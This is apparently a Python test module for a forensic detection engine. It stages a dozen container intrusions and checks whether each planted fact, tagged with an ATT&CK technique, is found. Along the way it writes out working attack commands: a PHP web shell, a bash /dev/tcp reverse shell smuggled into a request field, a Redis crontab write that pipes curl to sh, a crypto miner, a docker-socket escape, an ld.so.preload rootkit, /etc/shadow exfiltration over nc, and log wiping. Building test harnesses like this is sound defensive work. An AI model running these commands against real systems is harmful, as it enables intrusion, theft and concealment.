"""Staged intrusions: what is done, with which techniques, and how it began. Harmless: it sleeps, listens, connects or copies
bytes that are made up, and only inside the private engine's own network."""
import dataclasses
import pathlib
import secrets
import typing

import services
import world
from services import OUTSIDE, from_outside, inside, leave, outside, request, ssh, start, wait_for_process
from world import docker, once

HERE = pathlib.Path(__file__).parent
MARK = secrets.token_hex(4)     # another one in each run
WALLET = "4" + "".join(secrets.choice("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") for _ in range(94))


@dataclasses.dataclass(frozen=True)
class Fact:
    """One thing that was planted."""
    technique: str
    what: str                   # in words
    mark: str                   # a part of the finding's sentence: it is about this, and not about another
    must: bool = True           # false: known to be missed; the page says so


@dataclasses.dataclass(frozen=True)
class Incident:
    what: str                   # a sentence's part
    stage: typing.Callable      # makes it; returns the container's name
    planted: tuple
    origin: str                 # the hypothesis that is true; "" where nothing that is left shows it
    needs: str = ""             # the collector without which the origin cannot be judged


@once
def tools():
    """Programs that no image has: their bytes are others in each run."""
    place = world.new_directory("tools")
    world.sh("gcc", "-static", "-O1", "-o", place / "miner", HERE / "miner.c")
    world.sh("gcc", "-shared", "-fPIC", "-O1", "-o", place / "libkan.so", HERE / "preload.c", "-ldl")
    (place / "agent").write_bytes((world.BUILD / "demo/suspect").read_bytes())
    for path in place.iterdir():
        with open(path, "ab") as stream:
            stream.write(secrets.token_bytes(16))
        path.chmod(0o755)
    return place


def put(name, tool, path):
    docker("cp", str(tools() / tool), f"{name}:{path}")


def web_shell():
    """A script goes where uploads go; by it comes a program, which calls home."""
    start("in-webshell", "shop")
    outside()
    docker("cp", str(tools() / "agent"), "outside:/root/agent")
    from_outside("printf '<?php echo shell_exec($_GET[\"c\"]);' >/root/cat.php")
    request("in-webshell", "upload.php?name=cat.php", "--data-binary", "@/root/cat.php")
    request("in-webshell", f"upload.php?name=.{MARK}", "--data-binary", "@/root/agent")
    command = f"chmod 755 .{MARK}; nohup ./.{MARK} connect {OUTSIDE} 8443 >/dev/null 2>&1 & "
    request("in-webshell", "uploads/cat.php", "-G", "--data-urlencode", f'"c={command}"')
    wait_for_process("in-webshell", f"./.{MARK} connect")
    return "in-webshell"


def reverse_shell():
    """A host name with a command behind it; the shell's input and output are a connection."""
    start("in-reverse", "shop")
    command = f"x; bash -c \\\"bash -i >& /dev/tcp/{OUTSIDE}/4444 0>&1\\\""
    services.leave_outside(f"curl -s --interface {OUTSIDE} -G --retry 20 --retry-connrefused --data-urlencode \"host={command}\" "
                           f"http://{services.address('in-reverse')}/lookup.php")
    wait_for_process("in-reverse", "bash -i")
    return "in-reverse"


def open_redis():
    """A database without a password writes its dump where cron looks."""
    start("in-redis", "redis-open")
    host = services.address("in-redis")
    lines = (f"set x \"\\n\\n* * * * * curl -s http://{OUTSIDE}/{MARK} | sh\\n\\n\"", "config set dir /var/spool/cron/crontabs",
             "config set dbfilename root", "save", "quit")
    say = "printf '%s\\n' " + " ".join(f"'{line}'" for line in lines) + f" | nc -s {OUTSIDE} -w 5 {host} 6379"
    from_outside(f"i=0; until {say}; do i=$((i+1)); [ $i -lt 60 ] || exit 1; sleep 0.5; done")  # it may not listen yet
    world.wait_until((services.root_of("in-redis") / "var/spool/cron/crontabs/root").exists, 20, "the dump is a crontab")
    return "in-redis"


def miner():
    """Somebody with access to the engine starts a miner, and deletes its file."""
    start("in-miner", "nginx", flags=("--no-healthcheck",))
    put("in-miner", "miner", f"/var/tmp/{MARK}")
    leave("in-miner", f"exec /var/tmp/{MARK} -o stratum+tcp://{OUTSIDE}:3333 -u {WALLET}")
    wait_for_process("in-miner", f"/var/tmp/{MARK}")
    inside("in-miner", f"rm /var/tmp/{MARK}")
    return "in-miner"


def planted_key():
    """A login with a password that was guessed; a key is left, and used."""
    start("in-ssh", "sshd")
    line = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAID" + MARK * 5 + "00 x"
    from_outside(ssh("in-ssh", f"echo {line} >>.ssh/authorized_keys", by_password=True))
    services.leave_outside(ssh("in-ssh", "exec sleep 1000", "-tt", by_password=True))
    wait_for_process("in-ssh", "sshd: deploy@pts")
    return "in-ssh"


def engine_socket():
    """The engine's socket is in the container: a container beside it is made, with the host's directories."""
    start("in-socket", "nginx", flags=("--no-healthcheck", "-v", f"{world.engine().socket}:/var/run/docker.sock"))
    inside("in-socket", f"cp /usr/bin/curl /tmp/.{MARK}")
    body = '{"Image":"kan-nginx","HostConfig":{"Binds":["/var/tmp:/host"],"Privileged":true}}'
    api = f"/tmp/.{MARK} -s --unix-socket /var/run/docker.sock"
    inside("in-socket", f"{api} -H Content-Type:application/json -d '{body}' 'http://x/containers/create?name=in-sibling'")
    leave("in-socket", f"exec {api} http://x/events")
    wait_for_process("in-socket", f"/tmp/.{MARK} -s")
    return "in-socket"


def preload():
    """A library that every program loads hides names."""
    start("in-preload", "nginx", flags=("--no-healthcheck",))
    put("in-preload", "libkan.so", "/usr/lib/libkan.so")
    inside("in-preload", f"echo /usr/lib/libkan.so >/etc/ld.so.preload; mkdir /var/lib/.kan-{MARK}")
    leave("in-preload", "exec sleep 1000")
    wait_for_process("in-preload", "sleep 1000")
    return "in-preload"


def exfiltration():
    """Password hashes and data are gathered in a hidden archive, and sent away."""
    start("in-exfil", "nginx", flags=("--no-healthcheck",))
    place = f"/tmp/.{MARK}"
    inside("in-exfil", f"mkdir {place}; cp /etc/shadow {place}/s; head -c 3000000 /dev/urandom >{place}/d; tar -czf {place}/l.tgz -C {place} s d")
    leave("in-exfil", f"(cat {place}/l.tgz; exec sleep 1000) | exec nc {OUTSIDE} {services.SINK}")
    sink = services.root_of("outside") / f"root/from-{services.SINK}"
    world.wait_until(lambda: sink.stat().st_size > 3_000_000, 30, "it has arrived")
    return "in-exfil"


def supply_chain():
    """An image whose start decodes text, and runs a miner that a layer has."""
    services.images()
    context = world.new_directory("bad")
    (context / "helper").write_bytes((tools() / "miner").read_bytes())
    (context / "helper").chmod(0o755)
    text = world.base64.b64encode(f"/usr/local/bin/helper -o stratum+tcp://{OUTSIDE}:3333 -u {WALLET} &\nexec nginx\n".encode()).decode()
    (context / "Dockerfile").write_text("FROM kan-nginx\nCOPY helper /usr/local/bin/helper\nHEALTHCHECK NONE\n"
                                        f'CMD ["sh", "-c", "echo {text} | base64 -d | exec sh"]\n')
    world.build("kan-bad", context, "--network", "none")
    outside()
    start("in-supply", "bad")
    wait_for_process("in-supply", "/usr/local/bin/helper")
    return "in-supply"


def wiped_logs():
    """Somebody with a shell by exec empties the logs, and keeps no history."""
    start("in-wipe", "nginx", flags=("--no-healthcheck",))
    inside("in-wipe", ": >/var/log/nginx/access.log; rm /var/log/dpkg.log; ln -sf /dev/null /root/.bash_history; ln -sf /dev/null /var/log/wtmp")
    docker("exec", "-d", "-t", "in-wipe", "bash")
    wait_for_process("in-wipe", "bash")
    return "in-wipe"


def inline_command():
    """Somebody who reaches the engine's API makes a container with a command of his own, and a directory as its root."""
    host = world.new_directory("host")
    (host / "bin").mkdir()
    (host / "bin/busybox").write_bytes(pathlib.Path(world.sh("which", "busybox").strip()).read_bytes())
    (host / "bin/busybox").chmod(0o755)
    start("in-api", "nginx", "chroot", "/host", "/bin/busybox", "sleep", "1000", flags=("--no-healthcheck", "--pid", "host", "--cap-add", "SYS_ADMIN", "-v", f"{host}:/host"))
    wait_for_process("in-api", "/bin/busybox sleep")
    return "in-api"


def unknown():
    """Files that came past everything that keeps a record: nothing in the container says how."""
    start("in-unknown", "cron")
    root = services.root_of("in-unknown")
    (root / f"etc/cron.d/{MARK}").write_text(f"*/7 * * * * root /usr/lib/{MARK}\n")
    (root / f"usr/lib/{MARK}").write_bytes((tools() / "agent").read_bytes())
    (root / f"usr/lib/{MARK}").chmod(0o4755)
    return "in-unknown"


AGENT = f"uploads/.{MARK}"
MINER = f"/var/tmp/{MARK}"
COPY = f"/tmp/.{MARK}"

INCIDENTS = (
    Incident("a web shell by an upload", web_shell,
             (Fact("T1505.003", "a script where uploads go", "/uploads/cat.php"), Fact("T1105", "a program that was brought along", AGENT),
              Fact("T1071", "its connection to a public address", f"{OUTSIDE} port 8443"), Fact("T1564.001", "its name begins with a dot", AGENT),
              Fact("T1190", "the requests, in the server's log", "cat.php?c=", must=False)), "service", "processes"),
    Incident("a reverse shell by a command in a request", reverse_shell,
             (Fact("T1059.004", "a shell below the server", "bash -i"), Fact("T1095", "its input and output are a connection", "bash -i"),
              Fact("T1190", "the request, in the server's log", "lookup.php?host=", must=False)), "service", "processes"),
    Incident("a crontab by an open database", open_redis,
             (Fact("T1053.003", "root's table", "/var/spool/cron/crontabs/root"),
              Fact("T1190", "a dump of redis, not a table that somebody wrote", "redis", must=False)), ""),
    Incident("a miner that was run by exec and deleted", miner,
             (Fact("T1496.001", "a miner with its pool", MINER), Fact("T1070.004", "its file is gone", MINER), Fact("T1105", "it was brought along", MINER),
              Fact("T1071", "its connection", f"{OUTSIDE} port 3333")), "exec", "engine"),
    Incident("a login by ssh that leaves a key", planted_key,
             (Fact("T1098.004", "a key", "/home/deploy/.ssh/authorized_keys"), Fact("T1021.004", "a session", "sshd: deploy@pts"),
              Fact("T1078", "its public address and its password, in the log", OUTSIDE, must=False)), "remote-login", "processes"),
    Incident("a way out by the socket of the engine", engine_socket,
             (Fact("T1059.013", "a connection to the engine", "connected to dockerd"), Fact("T1610", "a container that was made by it", COPY),
              Fact("T1036.003", "a copy of a program under another name", "/usr/bin/curl"), Fact("T1105", "it is no file of the image", COPY),
              Fact("T1564.001", "its name begins with a dot", COPY)), "exec", "engine"),
    Incident("a rootkit by the preload file", preload,
             (Fact("T1574.006", "ld.so.preload", "/etc/ld.so.preload"), Fact("T1574.006", "the library itself", "/usr/lib/libkan.so", must=False)),
             "exec", "engine"),
    Incident("theft of hashes and data", exfiltration,
             (Fact("T1003.008", "a copy of shadow", f"{COPY}/s"), Fact("T1560.001", "a hidden archive", f"{COPY}/l.tgz"),
              Fact("T1041", "three million octets to a public address", f"{OUTSIDE} port {services.SINK}")), "exec", "engine"),
    Incident("an image with a bad start", supply_chain,
             (Fact("T1204.003", "a start that decodes text", "base64 -d"), Fact("T1496.001", "a miner in a layer", "/usr/local/bin/helper")),
             "supply-chain", "image"),
    Incident("logs wiped by somebody inside", wiped_logs,
             (Fact("T1070.002", "an emptied log", "/var/log/nginx/access.log"), Fact("T1070.002", "a deleted log", "/var/log/dpkg.log"),
              Fact("T1070.002", "a log that goes nowhere", "/var/log/wtmp"), Fact("T1070.003", "a history that goes nowhere", "/root/.bash_history")),
             "exec", "engine"),
    Incident("a container made to leave it", inline_command,
             (Fact("T1610", "a command of its own with chroot, among the host's processes", "chroot /host"),
              Fact("T1105", "a program of the host's directory", "/host/bin/busybox")), "container-api", "engine"),
    Incident("files that came past every record", unknown,
             (Fact("T1053.003", "a cron table", f"/etc/cron.d/{MARK}"), Fact("T1548.001", "a set-user-id program", f"/usr/lib/{MARK}")), ""),
)


@once
def captured():
    """(incident, its report, its report without the collector that its origin needs or None) of each."""
    tools()
    names = services.all_of({i.what: i.stage for i in INCIDENTS})
    home = world.new_directory("home")
    whole = {i.what: services.report_of(names[i.what], home) for i in INCIDENTS}
    less = {i.what: services.report_of(names[i.what], home, "--skip", i.needs) for i in INCIDENTS if i.needs}
    world.remove("in-sibling", *names.values())
    return {i.what: (i, whole[i.what], less.get(i.what)) for i in INCIDENTS}


GRADES = ("contradicted", "not supported", "not assessable", "weakly supported", "supported")


def hypotheses(report):
    return {h["name"]: h for h in report["verdict"]["hypotheses"]}


def told(report):
    """The hypotheses that are claimed, the best first: with any support at all."""
    claimed = [h for h in report["verdict"]["hypotheses"] if GRADES.index(h["grade"]) >= GRADES.index("weakly supported")]
    return sorted(claimed, key=lambda h: (-GRADES.index(h["grade"]), -h["weight_for"]))


def rules_of(fact, report):
    """The rules whose finding is of the technique, and about what was planted."""
    return sorted({f["rule"] for f in report["findings"]
                   if f["class"] == "intrusion" and fact.technique in f["attack"] and fact.mark in f["says"]})


def missed(incident, report):
    return [fact for fact in incident.planted if not rules_of(fact, report)]


def false(incident, report):
    """Rules whose finding counts, and that is about nothing that was planted."""
    told_of = {rule for fact in incident.planted for rule in rules_of(fact, report)}
    techniques = {fact.technique for fact in incident.planted}
    return sorted({f["rule"] for f in services.weighty(report) if f["rule"] not in told_of and not set(f["attack"]) & techniques})
